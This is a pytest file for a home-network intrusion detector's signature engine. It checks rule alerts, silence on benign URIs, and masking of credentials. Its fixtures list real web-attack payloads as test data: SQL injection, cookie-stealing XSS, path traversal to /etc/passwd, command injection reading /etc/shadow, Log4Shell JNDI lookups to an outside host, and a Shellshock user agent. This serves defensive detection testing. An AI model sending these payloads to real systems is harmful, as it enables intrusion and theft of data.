"""The Signatures addon: rules over app events, through the engine, and lanward's own rules."""

from __future__ import annotations

import pytest

from lanward.engine.events import FlowKey, HttpTransaction
from lanward.engine.pipeline import Engine, EngineConfig
from lanward.engine.rules import RuleSet, Variables

HOME_MAC, OUTSIDE_MAC = "02:00:00:00:00:aa", "02:00:00:00:00:bb"


def request(
    uri: str, src: str = "192.168.1.20", dst: str = "93.184.216.34", **kw: str
) -> HttpTransaction:
    src_mac, dst_mac = (
        (HOME_MAC, OUTSIDE_MAC) if src.startswith("192.") else (OUTSIDE_MAC, HOME_MAC)
    )
    key = FlowKey(src, 50000, dst, 80, 6, src_mac, dst_mac, flow_id=7)
    return HttpTransaction(
        key,
        1_700_000_000_000,
        kw.get("method", "GET"),
        uri,
        host="example.com",
        user_agent=kw.get("ua", "Mozilla/5.0"),
        request_headers=(("Host", "example.com"), ("User-Agent", kw.get("ua", "Mozilla/5.0"))),
    )


def alerts_for(*events: HttpTransaction, config: EngineConfig | None = None) -> list[dict]:
    engine = Engine(config or EngineConfig())
    for event in events:
        engine.app_event(event)
    assert not engine.notices, engine.notices
    return [a for a in engine.alerts if a["detector"] == "signature"]


def test_alert_from_a_user_rule() -> None:
    rules = RuleSet(Variables.for_home(("192.168.0.0/16",)))
    rules.add_text(
        'alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET TROJAN test beacon"; '
        'flow:established,to_server; http.uri; content:"/gate.php"; classtype:trojan-activity; '
        "reference:md5,0123; metadata:created_at 2024_01_01; sid:2000001; rev:3;)",
        "et.rules",
    )
    (alert,) = alerts_for(request("/gate.php?id=1"), config=EngineConfig(rules=rules))
    assert alert["kind"] == "network_protection"
    assert alert["severity"] == "high"  # trojan-activity is priority 1
    assert alert["mac"] == HOME_MAC
    assert (alert["src"], alert["dst"], alert["app"]) == ("192.168.1.20", "93.184.216.34", "HTTP")
    assert "ET TROJAN test beacon" in alert["summary"] and "/gate.php?id=1" in alert["summary"]
    evidence = alert["evidence"]
    assert evidence["sid"] == 2000001 and evidence["rev"] == 3
    assert evidence["classtype"] == "trojan-activity"
    assert (evidence["source"], evidence["line"]) == ("et.rules", 1)
    assert (evidence["buffer"], evidence["value"]) == ("http.uri", "/gate.php?id=1")
    assert evidence["references"] == ["md5,0123"]


def test_a_user_rule_set_replaces_the_default() -> None:
    empty = RuleSet()
    assert (
        alerts_for(request("/?q=<script>alert(1)</script>"), config=EngineConfig(rules=empty)) == []
    )


def test_mac_is_the_home_side() -> None:
    (alert,) = alerts_for(request("/?id=1' or 1=1--", src="203.0.113.9", dst="192.168.1.5"))
    assert alert["mac"] == HOME_MAC and alert["kind"] == "web_attack"


@pytest.mark.parametrize(
    ("uri", "sid"),
    [
        ("/item.php?id=1+UNION+ALL+SELECT+1,2,3--", 9000001),
        ("/item.php?id=-1%20union/**/select%20password%20from%20users", 9000001),
        ("/login.php?user=admin%27%20or%201%3D1--&pass=x", 9000002),
        ("/login.php?user=x'+OR+'a'='a", 9000002),
        ("/item.php?id=1'+AND+SLEEP(5)--", 9000003),
        ("/item.php?id=1;waitfor+delay+'0:0:5'--", 9000003),
        ("/item.php?id=1';DROP+TABLE+users--", 9000004),
        ("/item.php?id=1+union+select+table_name+from+information_schema.tables", 9000005),
        ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 9000010),
        ("/redirect?to=javascript:alert(1)", 9000011),
        ("/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", 9000012),
        ("/search?q=<svg/onload=alert(1)>", 9000013),
        ("/download?file=../../../../etc/passwd", 9000020),
        ("/download?file=..%2f..%2f..%2fwindows/win.ini", 9000020),
        ("/cgi-bin/ping?host=127.0.0.1;cat+/etc/shadow", 9000022),
        ("/?x=${jndi:ldap://203.0.113.9/a}", 9000023),
        ("/?x=${${lower:j}ndi:ldap://203.0.113.9/a}", 9000023),
        ("/index.php?page=php://filter/convert.base64-encode/resource=index", 9000026),
    ],
)
def test_builtin_rules_catch_web_attacks(uri: str, sid: int) -> None:
    found = alerts_for(request(uri))
    assert sid in [a["evidence"]["sid"] for a in found], found
    assert all(a["kind"] in ("web_attack", "network_protection") for a in found)


def test_builtin_rules_on_the_user_agent() -> None:
    found = alerts_for(
        request("/", ua="() { :; }; /bin/bash -c 'id'"),
        request("/", ua="${jndi:ldap://x/a}"),
        request("/", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"),
    )
    assert sorted(a["evidence"]["sid"] for a in found) == [9000024, 9000025, 9000027]


@pytest.mark.parametrize(
    "uri",
    [
        "/",
        "/index.html",
        "/search?q=union+station+select+hotels",  # words, not SQL
        "/search?q=sleep+well&lang=en",
        "/articles/2024/06/why-i-or-you?ref=home",
        "/api/v1/items?id=5&order=desc&select=name,price",
        "/static/js/app.min.js?v=3.2.1",
        "/scripts/main.js",
        "/description?text=onerror+handling+in+python",
        "/a/b/../c/./d.png",
        "/watch?v=dQw4w9WgXcQ&list=PL&index=2",
        "/wp-json/wp/v2/posts?per_page=10&_embed",
        "/generate_204",
        "/cdn-cgi/trace",
        "/track?u=https%3A%2F%2Fexample.com%2Fpage%3Fa%3D1%26b%3D2",
        "/search?q=it%27s+a+test",
        "/search?q=%22quoted%22+and+more",
    ],
)
def test_builtin_rules_stay_quiet_on_ordinary_requests(uri: str) -> None:
    assert alerts_for(request(uri)) == []


def test_matched_headers_and_form_bodies_never_carry_secrets() -> None:
    from lanward.engine.detect.signatures import _shown

    header = b"Host: x.test\r\nAuthorization: Basic dGVzdDpzZWNyZXQ=\r\nCookie: sid=abc123\r\n"
    shown = _shown(header)
    assert "dGVzdDpzZWNyZXQ=" not in shown and "abc123" not in shown
    assert "Authorization: [hidden]" in shown and "Host: x.test" in shown
    body = _shown(b"user=anna&password=hunter2&remember=1")
    assert "hunter2" not in body and "user=anna" in body and "remember=1" in body
